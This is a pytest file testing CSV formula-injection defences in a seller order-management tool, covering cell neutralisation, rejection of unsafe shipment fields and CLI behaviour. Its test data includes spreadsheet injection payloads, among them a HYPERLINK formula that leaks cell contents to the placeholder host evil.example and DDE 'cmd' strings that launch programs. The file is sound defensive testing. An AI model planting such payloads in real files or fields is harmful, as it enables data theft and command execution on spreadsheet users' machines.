"""Formula cells: spreadsheet-bound CSVs neutralise them; Amazon's confirmation file stays exact,
so carrier, tracking number and ship method that could never be valid are refused instead."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest

from seller_desktop.core.base.errors import BadInput
from seller_desktop.core.base.private_files import write_private
from seller_desktop.core.base.spreadsheet_csv import neutralise_cell, spreadsheet_csv
from seller_desktop.core.orders.model import ContactDetails, Order, OrderItem
from seller_desktop.core.orders.repository import get_order, save_order
from seller_desktop.core.orders.shipping import (
    CONFIRMATION_COLUMNS,
    ShipmentRequest,
    check_shipment_text,
    export_confirmations,
    ship,
    unsafe_text,
)

ORDER = "114-0000001-0000001"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- neutralise_cell / spreadsheet_csv --------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_quote(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "-3.50", "-3,50", "+49", "-.5", "12", "0.99"])
def test_plain_numbers_stay_numbers(cell):
    assert neutralise_cell(cell) == cell


@pytest.mark.parametrize(
    "cell", ["-", "+", "--5", "-5-", "-1e5", "+49 30 1234567", "-3.50 EUR", "- Jane", "-1,234.50"]
)
def test_anything_more_than_a_plain_number_is_prefixed(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "value, text",
    [
        (None, ""),
        (-5, "-5"),
        (-3.5, "-3.5"),
        (Decimal("-3.50"), "-3.50"),
        ("Jane Baker", "Jane Baker"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_everything_else_is_kept(value, text):
    assert neutralise_cell(value) == text


def test_a_spreadsheet_csv_written_to_a_file_reads_back_neutralised(tmp_path):
    """Through the whole path an export takes: cells → CSV text → owner-only file → a reader."""
    rows = [
        ["114-1", FORMULAS[0], "-3.50", 'Jane, "JB" Baker'],
        ["114-2", "@evil", "12", "=cmd|'/C calc'!A0"],
    ]
    out = tmp_path / "orders.csv"
    write_private(
        out, spreadsheet_csv(["order-id", "=header", "price", "name"], rows).encode("utf-8-sig")
    )
    back = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert back == [
        ["order-id", "'=header", "price", "name"],
        ["114-1", "'" + FORMULAS[0], "-3.50", 'Jane, "JB" Baker'],
        ["114-2", "'@evil", "12", "'=cmd|'/C calc'!A0"],
    ]


# --- the Amazon confirmation file -------------------------------------------------------------


def _order(store, order_id=ORDER):
    save_order(
        store,
        Order(
            order_id=order_id,
            marketplace="US",
            purchased_at="2026-11-27T10:00:00Z",
            items=[OrderItem(order_item_id=f"{order_id}-1", sku="SKU", quantity=1)],
        ),
        ContactDetails(recipient_name="Test Person"),
    )


BAD_VALUES = [
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "  =1+1",
    "1Z999\tAA",
    "1Z999\nAA",
    "1Z999\r",
    "\t1Z999",
]


@pytest.mark.parametrize("value", BAD_VALUES)
@pytest.mark.parametrize(
    "field, label",
    [
        ("tracking_number", "The tracking number"),
        ("carrier", "The carrier"),
        ("ship_method", "The ship method"),
    ],
)
def test_ship_refuses_values_that_could_never_be_valid(store, value, field, label):
    _order(store)
    request = ShipmentRequest(ORDER, date(2026, 11, 28), **{field: value})
    with pytest.raises(BadInput) as refused:
        ship(store, request)
    message = str(refused.value)
    assert message.startswith(
        f"{label} cannot start with =, + or @ or contain tabs or line breaks."
    )
    assert value.strip() not in message and "HYPERLINK" not in message and "cmd" not in message
    assert store.conn.execute("SELECT count(*) FROM shipments").fetchone()[0] == 0
    assert get_order(store, ORDER).status == "unshipped"


def test_the_tracking_message_says_what_to_do():
    with pytest.raises(
        BadInput,
        match="^The tracking number cannot start with =, \\+ or @ or "
        "contain tabs or line breaks. Type it as the carrier shows "
        "it.$",
    ):
        check_shipment_text(tracking_number="=1+1")


@pytest.mark.parametrize(
    "carrier, tracking, method",
    [
        ("UPS", "1Z999AA10123456784", ""),
        ("DHL", "JJD000390007000000001", "Paket"),
        ("Royal Mail", "AB123456789GB", "Tracked 48"),
        ("My Courier (+ returns)", "LC-9=1", "Next day"),
        ("GLS", "-00042", "-"),  # a carrier is required; the leading - is what is tested
        ("Deutsche Post", "RR 1234 5678 9DE", ""),
    ],
)
def test_valid_values_go_through_unchanged(store, carrier, tracking, method):
    _order(store)
    ship(store, ShipmentRequest(ORDER, date(2026, 11, 28), carrier, tracking, method))
    text, count = export_confirmations(store)
    lines = text.split("\n")
    assert count == 1 and lines[0].split("\t") == list(CONFIRMATION_COLUMNS)
    row = lines[1].split("\t")
    assert row[6:8] == [tracking, method] and (row[5] == carrier or carrier == "UPS")
    assert "'" not in text  # the Amazon file is never neutralised


@pytest.mark.parametrize("column", ["tracking_number", "carrier_name", "ship_method"])
def test_export_refuses_bad_values_stored_before_the_check(store, column):
    _order(store)
    _order(store, "114-0000002-0000002")
    ship(store, ShipmentRequest(ORDER, date(2026, 11, 28), "UPS", "1Z1"))
    ship(store, ShipmentRequest("114-0000002-0000002", date(2026, 11, 28), "UPS", "1Z2"))
    store.conn.execute(
        f"UPDATE shipments SET {column} = ? WHERE order_id = ?",
        ('=HYPERLINK("https://evil.example","x")', ORDER),
    )
    delivered: list[str] = []
    with pytest.raises(BadInput) as refused:
        export_confirmations(store, deliver=delivered.append)
    message = str(refused.value)
    assert f"order {ORDER} " in message and "114-0000002-0000002" not in message
    assert "HYPERLINK" not in message and "evil" not in message
    assert delivered == []
    assert (
        store.conn.execute(
            "SELECT count(*) FROM shipments WHERE confirmed_at IS NOT NULL"
        ).fetchone()[0]
        == 0
    )


def test_unsafe_text_rules():
    assert unsafe_text("=x") and unsafe_text(" +x") and unsafe_text("@x") and unsafe_text("a\tb")
    assert not unsafe_text("-x") and not unsafe_text("a=b") and not unsafe_text("")


# --- through the CLI --------------------------------------------------------------------------


@pytest.fixture
def cli(cli_store):
    return cli_store(["de", "fr"])


def test_cli_ship_refuses_once_before_anything_is_shipped(cli, tmp_path):
    ids = [o["order_id"] for o in json.loads(cli("orders", "--json")[1])]
    code, _, err = cli("ship", *ids, "--carrier", "DHL", "--tracking", '=HYPERLINK("x")')
    assert code == 2 and err.count("The tracking number cannot start with") == 1
    assert "HYPERLINK" not in err
    code, _, err = cli("ship", *ids, "--carrier", "+cmd|x", "--tracking", "JD1")
    assert code == 2 and "The carrier cannot start with" in err and "cmd" not in err
    assert all(o["status"] == "unshipped" for o in json.loads(cli("orders", "--json")[1]))

    code, _, err = cli(
        "ship",
        *ids,
        "--date",
        "2026-11-28",
        "--carrier",
        "DHL",
        "--tracking",
        "JJD000390007000000001",
    )
    assert code == 0, err
    out = tmp_path / "confirm.txt"
    assert cli("export-confirmations", "--out", str(out))[0] == 0
    rows = [line.split("\t") for line in out.read_text(encoding="utf-8").splitlines()[1:]]
    assert rows and all(r[4:7] == ["DHL", "DHL", "JJD000390007000000001"] for r in rows)
